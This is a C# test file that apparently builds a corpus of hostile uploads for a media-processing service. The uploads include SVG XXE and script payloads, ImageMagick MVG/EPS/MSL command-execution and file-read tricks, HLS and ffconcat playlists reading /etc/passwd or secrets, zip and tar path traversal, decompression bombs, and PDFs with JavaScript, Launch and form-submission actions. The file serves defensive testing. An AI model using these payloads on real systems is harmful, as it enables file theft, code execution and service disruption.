using System.Text;
using static Teahouse.Tests.Media.Hostile.Pack;

namespace Teahouse.Tests.Media.Hostile;

/// <summary>Markup, scripts and lists of other files under innocent names; archives; and PDF that wants to do something.</summary>
static class HostileDocuments
{
    public static IEnumerable<HostileFile> All(Bait bait) => [.. Markup(bait), .. Lists(bait), .. Archives(), .. Documents(bait)];

    static IEnumerable<HostileFile> Markup(Bait bait)
    {
        yield return Text("SVG with a script", "image/png", "<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>");
        yield return Text("SVG that fetches", "image/jpeg", $"<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink'><image xlink:href='{bait.Url}/svg'/></svg>");
        yield return Text("SVG that reads a file", "image/tiff", $"<svg xmlns:xlink='http://www.w3.org/1999/xlink'><image xlink:href='file://{bait.Secret}'/></svg>");
        yield return Text("SVG with an entity from a file", "image/heic", $"<?xml version='1.0'?><!DOCTYPE svg [<!ENTITY x SYSTEM 'file://{bait.Secret}'>]><svg><text>&x;</text></svg>");
        yield return Text("SVG of a billion laughs", "image/webp", "<!DOCTYPE svg [<!ENTITY a 'ha'>" +
            string.Concat(Enumerable.Range('b', 9).Select(c => $"<!ENTITY {(char)c} '{string.Concat(Enumerable.Repeat($"&{(char)(c - 1)};", 10))}'>")) + "]><svg>&j;</svg>");
        yield return Text("SVG of 1,000,000 by 1,000,000", "image/gif", "<svg width='1000000' height='1000000'><rect width='100%' height='100%'/></svg>");
        yield return Text("page as a photograph", "image/jpeg", "<!DOCTYPE html><script>fetch('/api/v1/me')</script>");
        yield return Text("MVG that reads a file", "image/jpeg", $"push graphic-context\nviewbox 0 0 640 480\nimage over 0,0 0,0 '{bait.Secret}'\npop graphic-context\n");
        yield return Text("MVG that runs a program", "image/png", $"push graphic-context\nviewbox 0 0 640 480\nfill 'url({bait.Url}/\"|touch {bait.Canary}\")'\npop graphic-context\n");
        yield return Text("MSL that writes a file", "image/gif", $"<?xml version='1.0'?><image><read filename='caption:x'/><write filename='{bait.Canary}'/></image>");
        yield return Text("PostScript that deletes", "image/tiff", $"%!PS\n({bait.Secret}) deletefile ({bait.Canary}) (w) file closefile showpage");
        yield return Text("EPS that runs a program", "image/jpeg", $"%!PS-Adobe-3.0 EPSF-3.0\nmark /OutputFile (%pipe%touch {bait.Canary}) currentdevice putdeviceprops\n");
        yield return Text("ImageMagick's own list of images", "image/webp", $"{bait.Secret}\nephemeral:{bait.Secret}\nmsl:{bait.Canary}\n");
        yield return Text("a name that reads like an option", "image/bmp", "-o /tmp/owned\n");
        yield return Text("vips' own format", "image/tiff", "\u00b6\u00a6\u00f2\u0008" + new string('\u0001', 200));
        yield return Text("a matrix that vips would read", "image/png", "30000 30000\n" + string.Concat(Enumerable.Repeat("1 ", 1000)));
        yield return Text("OpenSlide's mirax", "image/tiff", $"[GENERAL]\nSLIDE_VERSION = 01.02\n[HIERARCHICAL]\nINDEXFILE = {bait.Secret}\n");
        yield return Text("text that turns around and colours", "image/png", "\u202egnp.exe\u001b[31m\u001b]0;owned\u0007");
    }

    static IEnumerable<HostileFile> Lists(Bait bait)
    {
        string[] targets = [$"file://{bait.Secret}", bait.Secret, $"{bait.Url}/list", $"concat:{bait.Url}/head|file://{bait.Secret}", "file:///etc/passwd", $"subfile,,start,0,end,100,,:{bait.Secret}"];
        foreach (var (target, i) in targets.Select((target, i) => (target, i)))
        {
            var type = i % 2 == 0 ? "video/mp4" : "video/x-msvideo";
            yield return Text($"HLS of {Place(target, bait)}", type, $"#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:10.0,\n{target}\n#EXT-X-ENDLIST\n");
            yield return Text($"HLS with a key from {Place(target, bait)}", type, $"#EXTM3U\n#EXT-X-KEY:METHOD=AES-128,URI={target}\n#EXTINF:1,\n{target}\n");
            yield return Text($"concat of {Place(target, bait)}", type, $"ffconcat version 1.0\nfile '{target}'\n");
            yield return new($"AVI with HLS of {Place(target, bait)} as its subtitles", "video/x-msvideo", Subtitled($"#EXTM3U\n#EXTINF:1,\n{target}\n#EXT-X-ENDLIST\n"));
        }

        yield return Text("SDP", "video/quicktime", $"v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nm=video {bait.Url.Split(':')[^1]} RTP/AVP 96\n");
        yield return Text("DASH", "video/webm", $"<?xml version='1.0'?><MPD xmlns='urn:mpeg:dash:schema:mpd:2011'><Period><AdaptationSet><Representation><BaseURL>{bait.Url}/dash</BaseURL></Representation></AdaptationSet></Period></MPD>");
        yield return Text("a playlist of old", "audio/mpeg", $"[playlist]\nFile1={bait.Url}/pls\nNumberOfEntries=1\n");
    }

    static string Place(string target, Bait bait) => target.Replace(bait.Secret, "a secret", StringComparison.Ordinal).Replace(bait.Url, "a server", StringComparison.Ordinal);

    // Subtitles of the kind that ffmpeg once opened with whatever demuxer they looked like.
    static byte[] Subtitled(string playlist)
    {
        var text = Encoding.ASCII.GetBytes(playlist);
        byte[] header = Riff("avih", new byte[24], Le32(2), new byte[28]);
        byte[] video = Riff("LIST", Ascii("strl"), Riff("strh", Ascii("vidsMJPG"), new byte[12], Le32(1), Le32(25), new byte[24]), Riff("strf", Le32(40), Le32(16), Le32(16), Le16(1), Le16(24), Ascii("MJPG"), new byte[20]));
        byte[] subtitles = Riff("LIST", Ascii("strl"), Riff("strh", Ascii("txts"), new byte[16], Le32(1), Le32(25), new byte[24]), Riff("strf", new byte[4]));
        byte[] gab2 = [.. "GAB2\0"u8, .. Le16(2), .. Le32(2), 0, 0, .. Le16(4), .. Le32(text.Length), .. text];
        return Riff("RIFF", Ascii("AVI "), Riff("LIST", Ascii("hdrl"), header, video, subtitles), Riff("LIST", Ascii("movi"), Riff("00dc", new byte[100]), Riff("01tx", gab2)));
    }

    static IEnumerable<HostileFile> Archives()
    {
        var bomb = Zip(("zeros", new byte[20 << 20]));
        var nested = Enumerable.Range(0, 6).Aggregate(bomb, (inner, i) => Zip(("a.zip", inner), ("b.zip", inner)));
        yield return new("zip bomb", "application/zip", bomb);
        yield return new("zip within zip", "image/jpeg", nested);
        yield return new("zip that climbs", "application/zip", Zip(("../../../../tmp/owned", [1]), ("/etc/cron.d/owned", [1]), ("..\\..\\owned", [1])));
        yield return new("document of Word that is a bomb", "application/pdf", Zip(("[Content_Types].xml", new byte[20 << 20]), ("word/document.xml", [.. "<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]>"u8])));
        yield return new("gzip bomb", "image/png", [0x1F, 0x8B, 8, 0, 0, 0, 0, 0, 0, 3, .. Zeros(50 << 20)[2..]]);
        yield return new("tar that climbs", "application/x-tar", [.. Ascii("../../../tmp/owned".PadRight(257, '\0')), .. "ustar\0"u8, .. new byte[249]]);
        yield return new("7z of nothing", "application/x-7z-compressed", [.. "7z"u8, 0xBC, 0xAF, 0x27, 0x1C, 0, 4, .. Enumerable.Repeat((byte)0xFF, 100)]);
    }

    static IEnumerable<HostileFile> Documents(Bait bait)
    {
        const string type = "application/pdf";
        HostileFile Document(string name, string catalogue, params string[] objects) => new($"PDF {name}", type, Pdf.Of(1, catalogue, 600, objects));
        yield return Document("that runs a script", "/OpenAction << /S /JavaScript /JS (app.launchURL('x', true); this.exportDataObject({cName:'x'});) >>");
        yield return Document("that launches a program", $"/OpenAction << /S /Launch /Unix << /F (/usr/bin/touch) /P ({bait.Canary}) >> >>");
        yield return Document("that opens a page", $"/OpenAction << /S /URI /URI ({bait.Url}/pdf) >>");
        yield return Document("that sends a form", $"/OpenAction << /S /SubmitForm /F << /FS /URL /F ({bait.Url}/form) >> >>");
        yield return Document("with a file in it", "/Names << /EmbeddedFiles << /Names [(a.exe) 100 0 R] >> >>", "<< /Type /Filespec /F (a.exe) /EF << /F 101 0 R >> >>", "<< /Length 2 >>\nstream\nMZ\nendstream");
        yield return new("PDF of 14,400 inches", type, Pdf.Of(1, side: 14_400 * 72));
        yield return new("PDF of a page larger than numbers", type, Pdf.Of(1, side: int.MaxValue));
        yield return new("PDF of a page smaller than a point", type, Pdf.Of(1, side: 0));
        yield return new("PDF of 300 pages", type, Pdf.Of(300));
        yield return Replaced("whose pages are its own children", Pdf.Of(2), "/Kids [10 0 R 12 0 R]", "/Kids [2 0 R 2 0 R  ]");
        yield return Replaced("of 999,999,999 pages", Pdf.Of(1), "/Count 1 /Kids", "/Count 999999999 /Kids");
        yield return Replaced("whose table goes round", Pdf.Of(1), "/Size 1000 /Root", "/Prev 1 /Size 9 /Root");
        yield return Drawing("that draws itself", "/X Do", "/XObject << /X 11 0 R >>", "/Type /XObject /Subtype /Form /BBox [0 0 600 600] /Resources << /XObject << /X 11 0 R >> >>");
        yield return Drawing("of 200,000 strokes", string.Concat(Enumerable.Range(0, 200_000).Select(i => $"{i % 600} 0 m {600 - (i % 600)} 600 l S ")));
        yield return Drawing("of 100,000 nested states", string.Concat(Enumerable.Repeat("q ", 100_000)));
        yield return Drawing("of a stream from a file", "0 0 m", "", $"/F ({bait.Secret})");
        yield return Drawing("of a stream from a server", "0 0 m", "", $"/F << /FS /URL /F ({bait.Url}/stream) >>");
        yield return Drawing("of an image of 50,000 by 50,000", "600 0 0 600 0 0 cm /X Do", "/XObject << /X 100 0 R >>", "",
            "<< /Type /XObject /Subtype /Image /Width 50000 /Height 50000 /ColorSpace /DeviceRGB /BitsPerComponent 8 /Length 3 >>\nstream\nabc\nendstream");
        yield return Drawing("of an image by JBIG2 that is none", "600 0 0 600 0 0 cm /X Do", "/XObject << /X 100 0 R >>", "",
            "<< /Type /XObject /Subtype /Image /Width 5000 /Height 5000 /ColorSpace /DeviceGray /BitsPerComponent 1 /Filter /JBIG2Decode /Length 20 >>\nstream\n01234567890123456789\nendstream");
        yield return Drawing("of an image by JPEG 2000 that is none", "600 0 0 600 0 0 cm /X Do", "/XObject << /X 100 0 R >>", "",
            "<< /Type /XObject /Subtype /Image /Width 5000 /Height 5000 /Filter /JPXDecode /Length 12 >>\nstream\n\0\0\0\u000cjP  \r\n\u0087\n\nendstream");
        yield return Drawing("of 250,000 tiles", "/Pattern cs /P scn 0 0 600 600 re f", "/Pattern << /P 100 0 R >>", "",
            "<< /Type /Pattern /PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 1 1] /XStep 1.2 /YStep 1.2 /Resources << >> /Length 12 >>\nstream\n0 0 1 1 re f\nendstream");
        var packed = Encoding.Latin1.GetString(Zeros(60 << 20));
        yield return Drawing("of a stream of 60 MB in 60 kB", packed, "", "/Filter /FlateDecode");
        yield return Drawing("packed forty times", packed, "", $"/Filter [{string.Concat(Enumerable.Repeat("/FlateDecode ", 40))}]");
        yield return new("PDF behind a page", type, [.. "<html><script>alert(1)</script>"u8, .. Pdf.Of(1)]);
        yield return new("PDF that is encrypted by nobody", type, Encoding.Latin1.GetBytes(Encoding.Latin1.GetString(Pdf.Of(1)).Replace("/Root 1 0 R", "/Root 1 0 R /Encrypt << /Filter /Standard /V 99 /R 99 >>", StringComparison.Ordinal)));
    }

    static HostileFile Replaced(string name, byte[] document, string what, string by)
    {
        var text = Encoding.Latin1.GetString(document);
        return new($"PDF {name}", "application/pdf", Encoding.Latin1.GetBytes(text.Replace(what, by, StringComparison.Ordinal)));
    }

    static HostileFile Drawing(string name, string content, string resources = "", string dictionary = "", params string[] objects)
    {
        var text = Encoding.Latin1.GetString(Pdf.Of(1, "", 600, objects));
        var from = text.IndexOf("11 0 obj", StringComparison.Ordinal);
        var to = text.IndexOf("endobj", from, StringComparison.Ordinal);
        text = text[..from] + $"11 0 obj\n<< /Length {content.Length} {dictionary} >>\nstream\n{content}\nendstream\n" + text[to..];
        return new($"PDF {name}", "application/pdf", Encoding.Latin1.GetBytes(text.Replace("/Resources <<", $"/Resources << {resources}", StringComparison.Ordinal)));
    }

    static HostileFile Text(string name, string type, string text) => new(name, type, Encoding.UTF8.GetBytes(text));
}
